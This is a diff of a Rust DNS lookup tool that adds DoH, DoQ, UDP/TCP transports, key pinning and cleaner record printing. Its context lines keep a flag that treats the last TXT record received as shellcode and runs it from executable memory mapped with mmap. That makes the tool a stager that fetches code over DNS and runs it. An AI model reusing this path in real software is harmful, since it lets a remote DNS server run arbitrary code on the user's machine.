@@ -1,25 +1,41 @@
-use std::{collections::HashMap, io::Cursor};
-
 use dns_util::{
-    http::{Client, DnsRequest, HttpMethod, Request},
-    DnsPacket, FromBytes, RecordType, ToBytes,
+    http::{Client, DnsRequest, DohFormat, DohRequest, HttpMethod},
+    name, DnsPacket, RData, RecordClass, RecordType,
 };
 // use reqwest::Client;
 use structopt::StructOpt;
 
 #[derive(StructOpt)]
 struct CliArgs {
-    #[structopt(short = "r", long = "record-type", help = "which record type")]
-    record_type: String,
-    #[structopt(help = "domain name to lookup")]
-    domain: String,
+    #[structopt(
+        short = "r",
+        long = "record-type",
+        help = "which record type (mnemonic or TYPEnnn)",
+        required_unless = "chaos"
+    )]
+    record_type: Option<RecordType>,
+    #[structopt(
+        short = "c",
+        long = "class",
+        help = "which class (mnemonic or CLASSnnn)",
+        default_value = "IN"
+    )]
+    class: RecordClass,
+    #[structopt(help = "domain name to lookup", required_unless = "chaos")]
+    domain: Option<String>,
+    #[structopt(
+        long = "chaos",
+        help = "ask the server to identify itself with a CH TXT query",
+        possible_values = &["version.bind", "hostname.bind", "id.server"],
+        conflicts_with_all = &["domain", "record-type"]
+    )]
+    chaos: Option<String>,
     #[structopt(
         short = "d",
         long = "dns-host",
-        help = "dns host to use",
-        default_value = "https://dns.google/dns-query"
+        help = "dns host to use [default: https://dns.google/dns-query, or https://dns.google/resolve with --json]"
     )]
-    dns_host: String,
+    dns_host: Option<String>,
 
     #[structopt(
         short = "t",
@@ -42,155 +58,158 @@ struct CliArgs {
         help = "execute shell code from txt"
     )]
     exec_shellcode: bool,
+
+    #[structopt(long = "doh", help = "use DNS over HTTPS instead of DNS over TLS")]
+    use_doh: bool,
+    #[structopt(
+        short = "j",
+        long = "json",
+        help = "use the application/dns-json API for DNS over HTTPS"
+    )]
+    use_json: bool,
+    #[structopt(
+        long = "doq",
+        help = "use DNS over QUIC with the tls host and address instead of DNS over TLS"
+    )]
+    use_doq: bool,
+    #[structopt(long = "post", help = "use POST instead of GET for DNS over HTTPS")]
+    use_post: bool,
+    #[structopt(
+        long = "udp",
+        help = "send the query over plain UDP to this server (ip or ip:port), truncated responses are repeated over TCP"
+    )]
+    udp_server: Option<String>,
+    #[structopt(
+        long = "tcp",
+        help = "send the query over plain TCP to this server (ip or ip:port)"
+    )]
+    tcp_server: Option<String>,
+    #[structopt(
+        long = "randomize-case",
+        help = "randomize the case of the name in UDP and TCP queries (0x20 encoding)"
+    )]
+    randomize_case: bool,
+
+    #[structopt(
+        long = "ca-file",
+        help = "trust the CA certificates in this PEM file in addition to the built in ones"
+    )]
+    ca_file: Option<String>,
+    #[structopt(
+        long = "pin-sha256",
+        help = "base64 SHA-256 hash of the server's public key, the server is then authenticated by its key alone",
+        conflicts_with_all = &["udp-server", "tcp-server"]
+    )]
+    pins: Vec<String>,
+    #[structopt(
+        long = "keylog",
+        help = "write the TLS secrets to the file in SSLKEYLOGFILE"
+    )]
+    key_log: bool,
+
+    #[structopt(
+        short = "u",
+        long = "unicode",
+        help = "show internationalized names in unicode instead of punycode"
+    )]
+    unicode: bool,
 }
+impl CliArgs {
+    // the JSON API lives at a different path than the DNS message endpoint
+    fn doh_url(&self) -> &str {
+        match &self.dns_host {
+            Some(dns_host) => dns_host,
+            None if self.use_json => "https://dns.google/resolve",
+            None => "https://dns.google/dns-query",
+        }
+    }
+}
+
 #[tokio::main]
 async fn main() {
     let args = CliArgs::from_args();
-    let record_type = match args.record_type.as_str() {
-        "*" | "any" | "ANY" => RecordType::ANY,
-        "a" | "A" => RecordType::A(0),
-        "aaaa" | "AAAA" => RecordType::AAAA(0),
-        "txt" | "TXT" => RecordType::TXT(String::new()),
-        "cname" | "CNAME" => RecordType::CNAME(String::new()),
-        "mx" | "MX" => RecordType::MX(String::new()),
-        "ns" | "NS" => RecordType::NS(String::new()),
-        _ => unimplemented!("Not implemented"),
+    let (domain, record_type, class) = match &args.chaos {
+        Some(name) => (name.as_str(), RecordType::TXT, RecordClass::CH),
+        None => (
+            args.domain.as_deref().unwrap(),
+            args.record_type.unwrap(),
+            args.class,
+        ),
     };
     let pkg = DnsPacket::builder()
-        .add_query(args.domain.as_str(), record_type)
+        .add_query_with_class(domain, record_type, class)
+        .expect("invalid domain name")
         .build();
-    let t = base64::encode(&pkg.to_vec().unwrap());
+    let t = base64::encode(pkg.to_vec().unwrap());
     println!("DNS-Query: {}", t);
 
-    let client = Client::new();
+    let client = build_client(&args);
 
     let tls_host = args.tls_host.clone();
     let tls_addr = args.tls_server_addr.clone();
 
-    //  Use DNS over TLS
-    let response_package = dns_over_tls(pkg, &tls_host, &tls_addr, client).await;
-
-    // Use DNS over HTTPS
-    // let response_package = dns_over_https(pkg, &args, client).await;
-
-    // let udp = UdpSocket::bind("0.0.0.0:0").await.unwrap();
-    // udp.send_to(&pkg.to_vec().unwrap(), "10.122.1.1:53").await.unwrap();
-    // let mut buf = vec![0;4096];
-    // let read = udp.recv(&mut buf).await.unwrap();
-    // let response_package = DnsPacket::read(&mut Cursor::new(&buf[..read])).unwrap();
+    let response_package = if let Some(server) = &args.udp_server {
+        dns_over_udp(pkg, server, args.randomize_case, client).await
+    } else if let Some(server) = &args.tcp_server {
+        dns_over_tcp(pkg, server, args.randomize_case, client).await
+    } else if args.use_doq {
+        dns_over_quic(pkg, &tls_host, &tls_addr, client).await
+    } else if args.use_doh || args.use_json || args.use_post {
+        // Use DNS over HTTPS
+        dns_over_https(pkg, &args, client).await
+    } else {
+        //  Use DNS over TLS
+        dns_over_tls(pkg, &tls_host, &tls_addr, client).await
+    };
 
     println!("---- DNS ----");
     println!("---- QUERY ----");
     println!("{:?}", response_package.queries[0]);
+    if args.unicode {
+        println!("{}", response_package.queries[0].name.to_unicode());
+    }
     println!("------");
     println!("---- ANSWERS ----");
 
     let mut shellcode = String::new();
-
-    for answer in &response_package.answers {
-        if let Ok(RecordType::A(ip)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!(
-                    "A\t{}\tIN\t{}.{}.{}.{}",
-                    answer.ttl,
-                    (ip & 0xff_00_00_00) >> 24,
-                    (ip & 0x00_ff_00_00) >> 16,
-                    (ip & 0x00_00_ff_00) >> 8,
-                    ip & 0x00_00_00_ff
-                );
-            }
-        }
-        if let Ok(RecordType::AAAA(ip)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!(
-                    "AAAA\t{}\tIN\t{:02x}:{:02x}:{:02x}:{:02x}:{:02x}{:02x}:{:02x}:{:02x}",
-                    answer.ttl,
-                    (ip >> 112) & 0xffff,
-                    (ip >> 96) & 0xffff,
-                    (ip >> 80) & 0xffff,
-                    (ip >> 64) & 0xffff,
-                    (ip >> 48) & 0xffff,
-                    (ip >> 32) & 0xffff,
-                    (ip >> 16) & 0xffff,
-                    ip & 0xffff
-                );
-            }
+    let display_name = |name: String| {
+        if args.unicode {
+            name::to_unicode(&name)
+        } else {
+            name
         }
+    };
 
-        if let Ok(RecordType::TXT(txt)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("TXT\t{}\tIN\t{}", answer.ttl, txt);
-                shellcode = txt;
-            }
-        }
-        if let Ok(RecordType::CNAME(cname)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("CNAME\t{}\tIN\t{}", answer.ttl, cname);
-            }
-        }
-        if let Ok(RecordType::NS(ns)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("NS\t{}\tIN\t{}", answer.ttl, ns);
-            }
-        }
-        if let Ok(RecordType::MX(mx)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("MX\t{}\tIN\t{}", answer.ttl, mx);
-            }
+    let rrsets = response_package
+        .answer_rrsets()
+        .into_iter()
+        .chain(response_package.additional_rrsets());
+    // every record is printed like a zone file line, with the owner and TTL of its RRset
+    for rrset in rrsets {
+        let owner = display_name(rrset.name.to_string());
+        for answer in &rrset.records {
+            let rdata = match answer.get_rdata() {
+                Ok(RData::TXT(txt)) => {
+                    shellcode = txt.to_text_lossy();
+                    txt.to_string()
+                }
+                Ok(RData::CNAME(name)) | Ok(RData::NS(name)) => display_name(name.to_string()),
+                _ => answer.rdata_to_string(),
+            };
+            println!(
+                "{}\t{}\t{}\t{}\t{}",
+                owner, rrset.ttl, rrset.class, rrset.ty, rdata
+            );
         }
     }
-
-    for answer in &response_package.additional_options {
-        if let Ok(RecordType::A(ip)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!(
-                    "{}\t{}\tIN\t{}.{}.{}.{}",
-                    answer.name,
-                    answer.ttl,
-                    (ip & 0xff_00_00_00) >> 24,
-                    (ip & 0x00_ff_00_00) >> 16,
-                    (ip & 0x00_00_ff_00) >> 8,
-                    ip & 0x00_00_00_ff
-                );
-            }
-        }
-        if let Ok(RecordType::AAAA(ip)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!(
-                    "AAAA\t{}\tIN\t{:02x}:{:02x}:{:02x}:{:02x}:{:02x}{:02x}:{:02x}:{:02x}",
-                    answer.ttl,
-                    (ip >> 112) & 0xffff,
-                    (ip >> 96) & 0xffff,
-                    (ip >> 80) & 0xffff,
-                    (ip >> 64) & 0xffff,
-                    (ip >> 48) & 0xffff,
-                    (ip >> 32) & 0xffff,
-                    (ip >> 16) & 0xffff,
-                    ip & 0xffff
-                );
-            }
-        }
-
-        if let Ok(RecordType::TXT(txt)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("TXT\t{}\tIN\t{}", answer.ttl, txt);
-                shellcode = txt;
-            }
-        }
-        if let Ok(RecordType::CNAME(cname)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("CNAME\t{}\tIN\t{}", answer.ttl, cname);
-            }
-        }
-        if let Ok(RecordType::NS(ns)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("NS\t{}\tIN\t{}", answer.ttl, ns);
-            }
-        }
-        if let Ok(RecordType::MX(mx)) = answer.get_record_type() {
-            if answer.class == 1 {
-                println!("MX\t{}\tIN\t{}", answer.ttl, mx);
-            }
+    if let Ok(chain) = response_package.resolve_chain() {
+        if chain.len() > 1 {
+            let chain: Vec<String> = chain
+                .iter()
+                .map(|name| display_name(name.to_string()))
+                .collect();
+            println!("---- ALIASES ----");
+            println!("{}", chain.join(" -> "));
         }
     }
 
@@ -205,44 +224,110 @@ async fn main() {
     }
 }
 
+fn build_client(args: &CliArgs) -> Client {
+    let mut builder = Client::builder();
+    if let Some(ca_file) = &args.ca_file {
+        let pem = std::fs::read(ca_file).expect("could not read the CA file");
+        builder = builder
+            .add_root_certificates_pem(&pem)
+            .expect("invalid CA file");
+    }
+    // the pins belong to the server that is asked
+    let server_name = if args.use_doh || args.use_json || args.use_post {
+        let url: url::Url = args.doh_url().parse().unwrap();
+        url.host_str().unwrap_or_default().to_string()
+    } else {
+        args.tls_host.clone()
+    };
+    for pin in &args.pins {
+        builder = builder
+            .pin_spki_sha256(&server_name, pin)
+            .expect("invalid pin");
+    }
+    if args.key_log {
+        builder = builder.key_log();
+    }
+    builder.build()
+}
+
 async fn dns_over_tls(
     pkg: DnsPacket,
     host_name: &str,
     server_addr: &str,
-    mut client: Client,
+    client: Client,
 ) -> DnsPacket {
     let request = DnsRequest::new_with_host(host_name, server_addr.parse().unwrap(), pkg);
     let response_package = client.send_dot(request).await.unwrap();
     response_package
 }
 
-async fn dns_over_https(pkg: DnsPacket, args: &CliArgs, mut client: Client) -> DnsPacket {
-    let dns_package = base64::encode_config(&pkg.to_vec().unwrap(), base64::URL_SAFE_NO_PAD);
-    let mut headers = HashMap::new();
-    headers.insert("accept".to_string(), "application/dns-message".to_string());
-    headers.insert(
-        "content-type".to_string(),
-        "application/dns-message".to_string(),
-    );
-    let request = Request::new(
-        format!("{}?dns={}", args.dns_host, dns_package)
-            .parse()
-            .unwrap(),
-        HttpMethod::Get,
-        headers,
-        vec![],
-    );
-    let dns_response = client.send(request).await.unwrap().body;
-    let response_package =
-        DnsPacket::read(&mut Cursor::new(&dns_response)).expect("response was invalid");
-    response_package
+async fn dns_over_quic(
+    pkg: DnsPacket,
+    host_name: &str,
+    server_addr: &str,
+    client: Client,
+) -> DnsPacket {
+    let request = DnsRequest::new_with_host(host_name, server_addr.to_string(), pkg);
+    let response = client
+        .send_doq(request)
+        .await
+        .expect("no valid DoQ response");
+    client.close_doq().await;
+    response
+}
+
+async fn dns_over_udp(
+    pkg: DnsPacket,
+    server: &str,
+    randomize_case: bool,
+    client: Client,
+) -> DnsPacket {
+    let mut request = DnsRequest::new(server.to_string(), pkg);
+    if randomize_case {
+        request = request.with_randomized_case();
+    }
+    client
+        .send_udp_with_tcp_fallback(request)
+        .await
+        .expect("no valid response")
+}
+
+async fn dns_over_tcp(
+    pkg: DnsPacket,
+    server: &str,
+    randomize_case: bool,
+    client: Client,
+) -> DnsPacket {
+    let mut request = DnsRequest::new(server.to_string(), pkg);
+    if randomize_case {
+        request = request.with_randomized_case();
+    }
+    client
+        .send_tcp(request)
+        .await
+        .expect("no valid TCP response")
+}
+
+async fn dns_over_https(pkg: DnsPacket, args: &CliArgs, client: Client) -> DnsPacket {
+    let format = if args.use_json {
+        DohFormat::Json
+    } else {
+        DohFormat::Message
+    };
+    let mut request = DohRequest::new(args.doh_url().parse().unwrap(), format, pkg);
+    if args.use_post {
+        request = request.with_method(HttpMethod::Post);
+    }
+    client
+        .send_doh(request)
+        .await
+        .expect("response was invalid")
 }
 
 use mmap::{
     MapOption::{MapExecutable, MapReadable, MapWritable},
     MemoryMap,
 };
-use tokio::net::UdpSocket;
 
 use std::mem;
 
@@ -263,6 +348,10 @@ unsafe fn run(shell_code: &str) {
 
 #[cfg(test)]
 mod test {
+    use std::io::Cursor;
+
+    use dns_util::FromBytes;
+
     use super::*;
     #[test]
     fn test_shellcode() {